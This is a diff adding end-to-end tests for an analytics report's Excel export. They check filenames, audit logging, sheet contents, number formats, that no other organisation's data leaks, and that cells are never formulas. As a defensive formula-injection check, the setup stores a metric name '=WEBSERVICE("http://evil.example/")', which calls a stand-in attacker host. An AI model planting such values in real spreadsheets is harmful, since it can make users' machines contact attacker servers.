@@ -1,0 +1,265 @@
+import ExcelJS from 'exceljs'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { companyScope } from '@/lib/core/auth/scope'
+import { findSession } from '@/lib/core/auth/session'
+import { db } from '@/lib/core/db/client'
+import { exportReport } from '@/lib/features/analytics/export/export'
+import { reportQuerySchema } from '@/lib/features/analytics/schema'
+import { type AnalyticsWorld, makeAnalyticsWorld, namesOf, numberOf } from '@/e2e/support/analytics-world'
+import { signedIn } from '@/e2e/support/api'
+import { checksum } from '@/e2e/support/checksum'
+import { resetDatabase } from '@/e2e/support/database'
+
+let world: AnalyticsWorld
+
+beforeAll(async () => {
+  await resetDatabase()
+  world = await makeAnalyticsWorld()
+  // Text that a spreadsheet would run.
+  await db().metric.update({
+    where: { id: world.metrics.m1 },
+    data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
+  })
+  await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
+})
+
+const query = (text: Record<string, string>) => reportQuerySchema.parse(text)
+
+/** The workbook as a person of organisation k gets it. */
+async function workbookOf(k: number, filters: Record<string, string> = {}) {
+  const session = await findSession((await signedIn(world.managers[k] ?? 0)).cookies.split(/[=;]/)[1])
+  if (!session) throw new Error('no session')
+  const download = await exportReport(
+    companyScope(session.user),
+    query({ year_from: '2025', year_to: '2025', ...filters }),
+  )
+  const bytes = await new Response(download.body).arrayBuffer()
+  const workbook = new ExcelJS.Workbook()
+  await workbook.xlsx.load(bytes)
+  return { download, workbook, bytes }
+}
+
+type Workbook = Awaited<ReturnType<typeof workbookOf>>['workbook']
+
+function sheetOf(workbook: Workbook, name: string): ExcelJS.Worksheet {
+  const sheet = workbook.getWorksheet(name)
+  if (!sheet) throw new Error(`no sheet ${name}`)
+  return sheet
+}
+
+function valuesOf(sheet: ExcelJS.Worksheet): unknown[][] {
+  return sheet
+    .getSheetValues()
+    .flatMap((row) => (Array.isArray(row) ? [Array.from(row.slice(1), (value) => value ?? null)] : []))
+}
+
+/** Rows of an indicator on the second sheet: from «Строка» on. */
+function rowsOf(workbook: Workbook, indicator: string): Record<string, unknown[]> {
+  return Object.fromEntries(
+    valuesOf(sheetOf(workbook, 'Отчёт'))
+      .filter((row) => row[1] === indicator)
+      .map((row) => [String(row[3]), Array.from({ length: 5 }, (_, index) => row[index + 4] ?? null)]),
+  )
+}
+
+describe('the workbook of the report', () => {
+  it('is a download with its name in Russian, and leaves an audit row', async () => {
+    const client = await signedIn(world.managers[3] ?? 0)
+    const before = await checksum()
+    const answer = await client.get(
+      '/api/analytics-report-data/export?year_from=2025&year_to=2026&company_types=1',
+    )
+    expect(answer.status).toBe(200)
+    expect(answer.headers.get('content-type')).toBe(
+      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+    )
+    expect(answer.headers.get('content-disposition')).toBe(
+      `attachment; filename="report-2025-2026.xlsx"; filename*=UTF-8''${encodeURIComponent('Отчёт по показателям 2025–2026.xlsx')}`,
+    )
+    expect(answer.headers.get('cache-control')).toBe('private, no-store')
+    const audit = await db().auditEvent.findFirstOrThrow({ where: { action: 'report.export' } })
+    expect(audit).toMatchObject({
+      userId: world.managers[3],
+      entity: 'company',
+      entityId: world.companies[3],
+      after: { years: [2025, 2026], organisations: 7, filters: { company_types: [1], is_emergency: null } },
+    })
+    // X3: besides its audit row the call changes nothing.
+    const others = (text: string) => text.replace(/^audit_events=.*$/m, '')
+    expect(others(await checksum())).toBe(others(before))
+  })
+
+  it('the first sheet: conditions, number of organisations, moment, method', async () => {
+    const { workbook, download } = await workbookOf(3, { company_types: '1,2', is_emergency: 'true' })
+    expect(workbook.worksheets.map(({ name }) => name)).toEqual(['Условия', 'Отчёт', 'Определения'])
+    expect(download.name).toBe('Отчёт по показателям 2025')
+    const rows = valuesOf(sheetOf(workbook, 'Условия'))
+    const types = await db().companyType.findMany({ where: { id: { in: [1, 2] } }, orderBy: { id: 'asc' } })
+    expect(rows[0]).toEqual(['Отчёт по показателям 2025'])
+    expect(
+      Object.fromEntries(rows.filter(({ length }) => length === 2).map(([key, value]) => [key, value])),
+    ).toEqual(
+      expect.objectContaining({
+        Сформирован: expect.stringMatching(/^\d\d\.\d\d\.\d{4}, \d\d:\d\d$/),
+        Организация: `№ ${numberOf(3)}`,
+        Годы: '2025',
+        'Тип организации': types.map(({ name }) => name).join(', '),
+        'Форма собственности': 'все',
+        Уровень: 'все',
+        'Коечный фонд': 'все',
+        'Экстренная помощь': 'с экстренной помощью',
+        'Организаций в группе (N)': 10,
+        'Наименьшая группа для сравнения': 5,
+        '5.': 'Если значение есть менее чем у 5 организаций, медиана и место не приводятся.',
+      }),
+    )
+  })
+
+  it('the second sheet cell by cell: the numbers of the report, units, own source data', async () => {
+    const { workbook } = await workbookOf(3)
+    const sheet = sheetOf(workbook, 'Отчёт')
+    expect(valuesOf(sheet)[0]).toEqual([
+      'Категория',
+      'Показатель',
+      'Ед. изм.',
+      'Строка',
+      'I кв. 2025',
+      'II кв. 2025',
+      'III кв. 2025',
+      'IV кв. 2025',
+      '2025',
+    ])
+    expect(rowsOf(workbook, '=WEBSERVICE("http://evil.example/")')).toEqual({
+      Значение: [2, 2, null, null, 2],
+      'a — Величина a': [4, 2, null, null, 6],
+      'b — Величина b': [200, 100, null, null, 300],
+      'Медиана группы': [3, 2, null, null, 3.5],
+      Место: [3, 2, null, null, 2],
+      'Организаций (N)': [8, 5, 0, 0, 10],
+      Изменение: [null, 0, null, null, null],
+      Примечание: [null, null, null, null, 'неполный год: 2 из 4'],
+    })
+    expect(rowsOf(workbook, 'Частота')).toEqual({
+      Значение: [90, 60, null, null, 80],
+      'a — Величина a': [18, 6, null, null, 24],
+      'b — Величина b': [200, 100, null, null, 300],
+      'Медиана группы': [90, null, null, null, 80],
+      Место: [3, null, null, null, 4],
+      'Организаций (N)': [9, 4, 0, 0, 9],
+      Изменение: [null, -30, null, null, null],
+      Примечание: [null, 'недостаточно организаций для сравнения: 4', null, null, 'неполный год: 2 из 4'],
+    })
+    expect(rowsOf(workbook, 'Длительность')).toMatchObject({
+      Значение: [7, null, null, null, 7],
+      'b — Величина b': [200, null, null, null, 200],
+      'Медиана группы': [9.5, null, null, null, 9.5],
+      Примечание: [
+        null,
+        'показатель неприменим либо нет данных; недостаточно организаций для сравнения: 1',
+        null,
+        null,
+        'неполный год: 1 из 4',
+      ],
+    })
+    expect(rowsOf(workbook, 'Баллы')).toMatchObject({
+      Значение: [7, null, null, null, 7],
+      'a — Величина a': [3, null, null, null, 3],
+      'c — Величина c': [1, null, null, null, 1],
+      Место: [null, null, null, null, null],
+    })
+    const units = new Map(valuesOf(sheet).map((row) => [row[1], row[2]]))
+    expect([units.get('Частота'), units.get('Длительность')]).toEqual(['случ. на 1000', 'суток'])
+  })
+
+  it('numbers have their decimals and signs, the header stays and is printed on every page', async () => {
+    const { workbook } = await workbookOf(5)
+    const sheet = sheetOf(workbook, 'Отчёт')
+    const row = (indicator: string, label: string) => {
+      let found = 0
+      sheet.eachRow((one, number) => {
+        if (one.getCell(2).value === indicator && one.getCell(4).value === label) found = number
+      })
+      return sheet.getRow(found)
+    }
+    const formatOf = (indicator: string, label: string, column: number) =>
+      row(indicator, label).getCell(column).numFmt
+    expect(formatOf('Длительность', 'Значение', 5)).toBe('#,##0.0')
+    expect(formatOf('Частота', 'Значение', 5)).toBe('#,##0.00')
+    expect(formatOf('Баллы', 'Значение', 5)).toBe('#,##0')
+    expect(formatOf('Частота', 'Место', 5)).toBe('#,##0')
+    expect(row('Частота', 'Изменение').getCell(6)).toMatchObject({
+      value: -20,
+      numFmt: '+#,##0.00" хуже";−#,##0.00" хуже";#,##0.00',
+    })
+    expect(formatOf('=WEBSERVICE("http://evil.example/")', 'Изменение', 6)).toContain('лучше')
+    expect(sheet.views[0]).toMatchObject({ state: 'frozen', xSplit: 4, ySplit: 1 })
+    expect(sheet.autoFilter).toBe('A1:I1')
+    expect(sheet.pageSetup).toMatchObject({
+      orientation: 'landscape',
+      paperSize: 9,
+      fitToPage: true,
+      fitToWidth: 1,
+      fitToHeight: 0,
+      printTitlesRow: '1:1',
+      printTitlesColumn: 'A:D',
+    })
+    expect(sheet.getColumn(2).width).toBe(60)
+  })
+
+  it('the third sheet: definitions', async () => {
+    const { workbook } = await workbookOf(3)
+    const rows = valuesOf(sheetOf(workbook, 'Определения'))
+    expect(rows.find((row) => row[1] === '=WEBSERVICE("http://evil.example/")')).toEqual([
+      '-Категория',
+      '=WEBSERVICE("http://evil.example/")',
+      '%',
+      'a * 100 / b',
+      'a — Величина a\nb — Величина b',
+      expect.any(String),
+      3,
+      10,
+      '@сумма <1>\n+7',
+    ])
+    expect(rows.find((row) => row[1] === 'Баллы')?.slice(3)).toEqual([
+      'a * 2 + c',
+      'a — Величина a\nc — Величина c (среднее)',
+      expect.any(String),
+    ])
+  })
+
+  it('I9 text is text, whatever it begins with, and no cell is a formula or not a number', async () => {
+    const { workbook } = await workbookOf(3)
+    let texts = 0
+    for (const sheet of workbook.worksheets) {
+      sheet.eachRow((row) => {
+        row.eachCell((cell) => {
+          expect([ExcelJS.ValueType.Number, ExcelJS.ValueType.String]).toContain(cell.type)
+          expect(cell.formula).toBeUndefined()
+          if (typeof cell.value === 'number') expect(Number.isFinite(cell.value)).toBe(true)
+          if (typeof cell.value === 'string' && /^[=+\-@\t]/.test(cell.value)) {
+            texts += 1
+            expect(cell.numFmt).toBe('@')
+          }
+        })
+      })
+    }
+    expect(texts).toBeGreaterThan(10)
+  })
+
+  it('A5 names no other organisation, and a group of four shows no comparison', async () => {
+    const { workbook } = await workbookOf(3, { company_types: '2' })
+    const text = JSON.stringify(workbook.worksheets.map(valuesOf))
+    for (const k of [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]) {
+      for (const word of Object.values(namesOf(k))) expect(text).not.toContain(word)
+      if (k !== 3) expect(text).not.toContain(numberOf(k))
+    }
+    const rows = valuesOf(sheetOf(workbook, 'Отчёт'))
+    const numbersOf = (label: string) =>
+      rows.filter((row) => row[3] === label).flatMap((row) => row.slice(4).filter((one) => one !== null))
+    expect(numbersOf('Медиана группы')).toEqual([])
+    expect(numbersOf('Место')).toEqual([])
+    expect(numbersOf('Значение').length).toBeGreaterThan(5)
+    // Variables of the group: only the own 4/200 and so on are there.
+    expect(numbersOf('b — Величина b')).toEqual([200, 100, 300, 200, 100, 300, 200, 200])
+  })
+})
